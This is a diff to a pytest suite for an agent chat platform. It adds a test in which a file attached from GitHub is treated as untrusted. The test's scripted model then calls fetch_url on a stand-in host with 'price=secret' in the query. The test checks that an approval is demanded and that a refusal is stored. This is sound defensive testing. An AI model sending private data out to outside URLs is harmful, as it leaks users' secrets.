@@ -4,16 +4,21 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from asgiref.sync import sync_to_async
 
 from admin_config.models import AppSettings, ToolSource
+from agents.engine.taint import REASON
 from agents.providers.doubles.mcp import github_server
 from agents.providers.doubles.script import Call, Text
 from tenants.context import tenant_tx
+from tests.chat.test_approvals import decide
+from tests.chat.test_files import message
 from tests.support.chat_socket import Browser, chat_socket, text_of
 from tests.support.mcp import MCP_TOKEN, ServedMcp, mcp_double
+from tests.support.tools import tool_give
 from tests.support.workspace import Workspace
 
 pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "system"])
@@ -41,6 +46,11 @@ async def ask(acme: Workspace, alice: Browser, chat_id: str) -> str:
     async with chat_socket(alice, "acme") as socket:
         assert text_of(await socket.answer(chat_id, TASK)).endswith("Done.")
     return json.dumps(acme.double.requests[-1].body["contents"])
+
+
+async def stored_parts(browser: Browser, chat_id: str) -> list[dict[str, Any]]:
+    parts: list[dict[str, Any]] = (await browser.get(f"/o/acme/api/conversations/{chat_id}/"))["messages"][1]["parts"]
+    return parts
 
 
 async def test_it_works_with_the_members_token_over_one_connection(
@@ -83,3 +93,30 @@ async def test_a_github_that_fails_fails_no_chat(
     github.status = status
     acme.double.default(Text("Done."))
     assert told in await ask(acme, alice, chat_id)
+
+
+async def test_a_file_from_github_is_a_strangers_text_so_what_would_leave_is_asked_for(
+    acme: Workspace, github: ServedMcp, alice: Browser, chat_id: str
+) -> None:
+    """The file alone is both: private, and written by whom it may concern. The request itself says why it asks, also later."""
+    await uses(acme, github)
+    await sync_to_async(tool_give)(acme, "fetch_url")
+    await alice.call("PUT", "/o/acme/api/keys/", {"provider": "github", "key": MCP_TOKEN})
+    attached = await alice.call("POST", "/o/acme/api/github/files/", {"repository": "demo/tea", "path": "shop.py"})
+    file = {"type": "file", "url": f"parley-file:{attached.json()['id']}", "mediaType": attached.json()["mediaType"], "filename": "shop.py"}
+    acme.double.answer(Call("fetch_url", {"url": "https://tea.example/?price=secret"}))
+    acme.double.default(Text("Then not."))
+    async with chat_socket(alice, "acme") as socket:
+        request = await socket.frame(
+            "send", id=chat_id, trigger="submit-message", messages=[message("Explain it.", file)], headers={}, body={}
+        )
+        chunks = await socket.chunks(request)
+    [asked] = [chunk for chunk in chunks if chunk["type"] == "tool-approval-request"]
+    assert asked["reason"] == REASON
+    [kept] = [part for part in await stored_parts(alice, chat_id) if part["type"] == "dynamic-tool"]
+    assert kept["approval"] == {"id": asked["approvalId"], "requestReason": REASON}
+    await decide(alice, chat_id, asked["approvalId"], approved=False)
+    async with chat_socket(alice, "acme") as socket:
+        await socket.chunks(await socket.resume(chat_id))
+    [refused] = [part for part in await stored_parts(alice, chat_id) if part["type"] == "dynamic-tool"]
+    assert refused["approval"] == {**kept["approval"], "approved": False}
